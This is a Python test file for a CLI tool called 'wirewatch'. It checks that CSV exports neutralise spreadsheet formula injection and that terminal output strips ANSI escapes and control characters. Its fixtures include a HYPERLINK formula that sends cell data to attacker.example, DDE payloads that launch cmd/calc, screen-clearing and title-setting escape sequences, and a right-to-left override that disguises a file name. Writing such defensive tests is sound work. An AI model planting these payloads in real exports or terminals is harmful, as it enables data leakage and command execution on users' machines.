"""Exports and terminal output never attack their readers (issue 14, item 5): CSV cells that start
like a spreadsheet formula are neutralised (OWASP), table output and `show` strip control
characters and ANSI escape sequences."""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from wirewatch.cli import app
from wirewatch.export import export_events
from wirewatch.output import emit
from wirewatch.store import open_store

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
ANSI = "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;owned\x07 and \x9b2K bell\x07 \u202egnp.exe"


def _hostile_world(tmp_path, populated):  # type: ignore[no-untyped-def]
    store = populated(open_store(str(tmp_path / "x.db")))
    events = list(store.iter_events())
    for ev, formula in zip(events, FORMULAS, strict=False):
        ev.notes, ev.actor1, ev.location = formula, formula, ANSI
    store.save_events(events)
    return store


def test_csv_export_neutralises_formulas(tmp_path, populated):  # type: ignore[no-untyped-def]
    store = _hostile_world(tmp_path, populated)
    out = tmp_path / "events.csv"
    export_events(store, "csv", out)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    cells = [v for row in rows for v in row.values() if v]
    assert not [c for c in cells if c.lstrip(" \n")[:1] in ("=", "+", "@", "\t", "\r") or
                (c.startswith("-") and not _number(c))]  # fmt: skip
    notes = [row["notes"] for row in rows]
    assert "'" + FORMULAS[0] in notes  # kept whole, as text
    assert any(row["longitude"].startswith("-") or row["longitude"] for row in rows)  # numbers untouched
    assert {row["fatalities"] for row in rows} >= {"7", "3"}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_format_csv_of_list_commands_neutralises_formulas(tmp_path, populated):  # type: ignore[no-untyped-def]
    _hostile_world(tmp_path, populated)
    result = runner.invoke(app, ["events", "--db", str(tmp_path / "x.db"), "--format", "csv"])
    assert result.exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row if c]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert any(c == "'" + FORMULAS[0] for c in cells)


def test_table_output_strips_control_characters(tmp_path, populated):  # type: ignore[no-untyped-def]
    _hostile_world(tmp_path, populated)
    result = runner.invoke(app, ["events", "--db", str(tmp_path / "x.db")])
    assert result.exit_code == 0
    assert not any(ch in result.stdout for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\r"))
    assert "red and  bell gnp.exe" in result.stdout  # the text stays, its sequences go


def test_show_strips_escape_sequences_from_article_text(tmp_path):  # type: ignore[no-untyped-def]
    page = tmp_path / "a.txt"
    page.write_text(
        "Gunmen attacked a police post in Bannu on Monday, killing three officers, police said. "
        f"{ANSI} The attack lasted two hours.\n",
        encoding="utf-8",
    )
    db = str(tmp_path / "show.db")
    assert runner.invoke(app, ["run", str(page), "--db", db]).exit_code == 0
    article_id = open_store(db).iter_articles().__next__().article_id
    result = runner.invoke(app, ["show", article_id, "--db", db])
    assert result.exit_code == 0 and "Bannu" in result.stdout
    assert not any(ch in result.stdout for ch in ("\x1b", "\x07", "\x9b", "\u202e"))


def test_emit_formats_one_row_safely():
    row = {"a": "=1+1", "b": "line\x1b[2Jone\nline two", "c": -3.5}
    table, sheet = io.StringIO(), io.StringIO()
    emit([row], "table", ["a", "b", "c"], out=table)
    emit([row], "csv", ["a", "b", "c"], out=sheet)
    assert "\x1b" not in table.getvalue() and "lineone line two" in table.getvalue()
    assert list(csv.reader(io.StringIO(sheet.getvalue())))[1] == ["'=1+1", "line\x1b[2Jone\nline two", "-3.5"]
